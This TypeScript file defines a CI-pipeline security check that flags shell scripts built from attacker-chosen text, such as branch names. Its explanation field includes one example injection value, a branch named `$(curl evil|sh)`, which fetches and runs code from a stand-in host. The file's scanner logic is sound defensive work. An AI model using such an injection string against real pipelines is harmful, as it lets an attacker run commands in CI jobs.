import type { Check, Result } from "../../check.ts";
import { parameterTypesOf } from "../../config/pipeline-parameters.ts";
import { taintOf } from "../../config/taint.ts";
import { failsOr, pass } from "../../results.ts";
import { failOfInterpolation, interpolations, useEnvironment } from "./interpolations.ts";

export const pipelineValueInjection: Check = {
  id: "RF-3.4.1",
  slug: "pipeline-value-injection",
  title: "No script is made of texts that an attacker chooses",
  level: 1,
  severity: "critical",
  scope: "config",
  subject: "config",
  needs: ["compiled"],
  map: { nist: ["SI-10", "SI-7"], soc2: ["CC6.8", "CC8.1"], cis8: ["16.10"], owasp: [4], ssc: ["2.3.6"] },
  why: "A branch may be named `$(curl evil|sh)`: the tag is replaced before the shell reads the script, so quotes around it do not help.",
  remedy: useEnvironment,
  guards: [
    "Ids, numbers, SHAs and booleans cannot hold a command.",
    "A comparison inserts its result, not what it compares.",
    "A value in `environment` is data.",
  ],
  run(config) {
    const types = parameterTypesOf(config);
    const fails = interpolations(config).flatMap((one): Result[] => {
      // RF-3.4.2 and RF-3.4.3 tell these.
      if (one.name.startsWith("pipeline.parameters.") || one.name === "pipeline.trigger_parameters.webhook.body")
        return [];
      const taint = taintOf(one.name, types);
      if (taint === "fixed") return [];
      if (taint === "structured") {
        const sentence = "its shape leaves an attacker little room, but some.";
        return [failOfInterpolation(config, one, sentence, { severity: "medium", confidence: "medium" })];
      }
      const exposed = one.jobs.find(
        (job) => job.contexts.length > 0 || config.reach.runs(job, "fork-pr") || config.reach.runs(job, "webhook"),
      );
      const sentence = "whoever chooses that text runs commands in the job.";
      return [failOfInterpolation(config, one, sentence, exposed ? {} : { severity: "high" })];
    });
    return failsOr(
      fails,
      pass(config.subject, "No script is made of texts that an attacker chooses.", { restsOn: "yaml" }),
    );
  },
};
